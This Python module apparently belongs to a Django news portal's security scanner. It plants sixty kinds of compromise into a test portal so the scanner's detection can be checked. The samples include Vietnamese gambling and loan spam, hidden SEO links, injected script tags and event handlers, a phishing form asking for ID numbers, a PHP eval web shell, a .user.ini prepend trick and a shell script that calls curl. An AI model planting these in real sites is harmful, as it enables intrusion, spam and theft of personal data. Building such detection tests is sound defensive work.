"""Sixty insertions as they are found on hacked portals, each written behind the portal's back.

Texts go into the database by SQL, so that no field cleans them; files onto the disk.
"""

from dataclasses import dataclass
from pathlib import Path
from typing import Any

from django.apps import apps
from django.conf import settings
from django.db import connection

from portal.core.scan.models import Finding, FindingState

HOST = "https://choi-tai-day.vip/dk"

IN_TEXTS = (
    "<p>Chơi tài xỉu online uy tín, đăng ký nhận ngay 100k.</p>",
    "<p>t à i x ỉ u, nạp rút siêu tốc</p>",
    "<p>T.à.i  X.ỉ.u xanh chín</p>",
    "<p>t4i xiu md5</p>",
    "<p>ta`i xi?u doi thuong</p>",
    "<p>tа̀і хỉu hôm nay</p>",
    "<p>𝐭𝐚̀𝐢 𝐱𝐢̉𝐮 trực tuyến</p>",
    "<p>ｔàｉ　ｘỉｕ</p>",
    "<p>tài x\u200bỉ\u200bu</p>",
    "<p>t<b>à</b>i x<b>ỉ</b>u mỗi ngày</p>",
    "<p>nh&#224; c&#225;i uy t&#237;n s&#7889; 1 Vi&#7879;t Nam</p>",
    "<p>nha cai uy tin so 1 chau A, dang ky ngay</p>",
    "<p>n.h.à c.á.i tặng vốn</p>",
    "<p>c4 cu0c bong da moi dem</p>",
    "<p>Soi cầu bạch thủ lô đề, chốt số miễn phí 100%.</p>",
    "<p>Game bài đổi thưởng SUN88, tải app nhận giftcode.</p>",
    "<p>Vay tiền online giải ngân trong 5 phút, chỉ cần CCCD, Zalo 0912 345 678.</p>",
    "<p>v-a-y n-ó-n-g không gọi người thân</p>",
    "<p>Nợ xấu vẫn vay, duyệt hồ sơ trong ngày, liên hệ Telegram.</p>",
    f'<p>Xem thêm: <a href="{HOST}">tài xỉu</a></p>',
)
"""Put behind the text of an article."""

HIDDEN = (
    f'<p style="display:none"><a href="{HOST}">xem ngay</a></p>',
    f'<div style="position:absolute;left:-9999px"><a href="{HOST}">tin hay</a></div>',
    f'<a href="{HOST}" style="font-size:0px">tin mới</a>',
    f'<p style="text-indent:-9999em"><a href="{HOST}">trang chủ</a></p>',
    f'<span style="color:#fff">bài hay <a href="{HOST}">đây</a></span>',
    f'<a href="{HOST}"></a>',
    f'<a href="{HOST}">&#8203;.</a>',
    f'<div hidden><a href="{HOST}">xem</a></div>',
    f'<p style="visibility: hidden">xem {HOST}</p>',
    f'<div style="height:0;overflow:hidden"><a href="{HOST}">báo</a></div>',
)
"""Put behind the text of an article, too."""

INSERTED = (
    '<script src="//cdn.choi-tai-day.vip/a.js"></script>',
    '<p onmouseover="location=1">Xin chào</p>',
    '<a href="javascript:alert(1)">Xem tiếp</a>',
    f'<iframe src="{HOST}" width="600" height="400"></iframe>',
    '<img src="x" onerror="top.location=atob(\'aHR0cA==\')">',
    f'<meta http-equiv="refresh" content="0;url={HOST}">',
    '<form action="https://thu-thap.top/"><input name="cccd"></form>',
    '<p title="nhà cái uy tín, đăng ký ngay">Chi tiết</p>',
    '<p data-kw="game bài đổi thưởng">Chi tiết</p>',
    '<svg><a xlink:href="https://slot-hay.xyz">x</a></svg>',
)
"""Handlers, elements and attributes, put there as well."""

IN_COLUMNS = (
    ("news.Article", "title", "Nổ hũ đổi thưởng uy tín, nạp đầu tặng 50%"),
    ("news.Article", "summary", "Link vào nhà cái mới nhất không bị chặn"),
    ("categories.Category", "description", "t.à.i x.ỉ.u online mỗi ngày"),
    ("news.Article", "source_url", "https://keo-hay.club/?ref=1"),
    ("news.Article", "source_url", "javascript:location='https://keo-xanh.xyz'"),
    ("categories.Category", "slug", "//keo-doi.club"),
    ("identity.Identity", "notice_url", "https://cong.gov.vn@keo-hay.top/"),
    ("identity.Identity", "notice", "Xem ngay tại keo-chuan.top, soi kèo miễn phí 100%"),
)
"""Other columns: model, column, what is written there."""

IN_FILES = (
    ("templates/public/base.html", b'<a href="https://x.vip" style="display:none">x</a>'),
    ("templates/public/components/footer.html", b"<script src=//x.vip/a.js></script>"),
    ("static/js/reader.js", b"\nlocation='https://x.vip';"),
    ("static/css/base.css", b"\nbody::after{content:'nha cai'}"),
    ("static/img/seo.html", b"<a href=https://x.vip>tai xiu</a>"),
    ("portal/urls.py", b"\nimport os  # way in\n"),
)
"""Put behind what a file holds, or a file that was not there."""

IN_MEDIA = (
    ("anh/2026/05/cache.php", b"<?php eval(base64_decode($_POST[1]));"),
    ("anh/2026/05/index.html", b"<html><a href=https://x.vip>tai xiu</a>"),
    ("anh/2026/05/0123456789abcdef.jpg", b"\xff\xd8\xff\xe0 JFIF"),
    ("tep/2026/05/a/logo.svg", b"<svg onload=alert(1)>"),
    (".user.ini", b"auto_prepend_file=x.jpg"),
    ("phat/2026/05/b.mp4", b"#!/bin/sh\ncurl x.vip"),
)
"""Files among the uploads."""


@dataclass
class Planted:
    """What was planted, and by what a finding about it is known."""

    name: str
    about: tuple[str, int] | None = None
    file: str = ""

    def is_found(self, seen: list[Finding]) -> bool:
        """Return whether one of the findings is about it."""
        for finding in seen:
            kind = finding.content_type
            label = f"{kind.app_label}.{kind.model}" if kind else ""
            if self.about and (label, finding.object_id) == (self.about[0].lower(), self.about[1]):
                return True
            if self.file and finding.place == self.file:
                return True
        return False


def plant_texts(bodies: list[int]) -> list[Planted]:
    """Put each of the texts, hidden links and insertions behind the body of an article."""
    planted = []
    for pk, markup in zip(bodies, (*IN_TEXTS, *HIDDEN, *INSERTED), strict=False):
        write("news.Article", "body", pk, markup, behind=True)
        planted.append(Planted(markup, ("news.Article", pk)))
    return planted


def plant_columns(numbers: dict[str, list[int]]) -> list[Planted]:
    """Write each of the columns in a row of its own; `numbers` are the rows by model."""
    planted = []
    for label, column, value in IN_COLUMNS:
        pk = numbers[label].pop(0) if len(numbers[label]) > 1 else numbers[label][0]
        write(label, column, pk, value)
        planted.append(Planted(f"{column}: {value}", (label, pk)))
    return planted


def write(label: str, column: str, pk: int, value: str, *, behind: bool = False) -> None:
    """Write a column by SQL, as somebody does who has the database."""
    model: Any = apps.get_model(label)
    name = connection.ops.quote_name(model._meta.get_field(column).column)
    table = connection.ops.quote_name(model._meta.db_table)
    old = f"{name} || " if behind else ""
    with connection.cursor() as cursor:
        cursor.execute(
            f"UPDATE {table} SET {name} = {old}%s WHERE id = %s",  # noqa: S608 -- names of ours
            [value, pk],
        )


def plant_files(root: Path) -> list[Planted]:
    """Change the files of a portal that lies in `root`."""
    for name, added in IN_FILES:
        file = root / name
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_bytes((file.read_bytes() if file.exists() else b"") + added)
    return [Planted(name, file=name) for name, _ in IN_FILES]


def plant_media() -> list[Planted]:
    """Put the files among the uploads."""
    for name, content in IN_MEDIA:
        file = Path(settings.MEDIA_ROOT) / name
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_bytes(content)
    return [Planted(name, file=name) for name, _ in IN_MEDIA]


def waiting() -> list[Finding]:
    """Return the findings that nobody has accepted."""
    rows = Finding.objects.filter(state=FindingState.NEW).select_related("content_type")
    return list(rows)
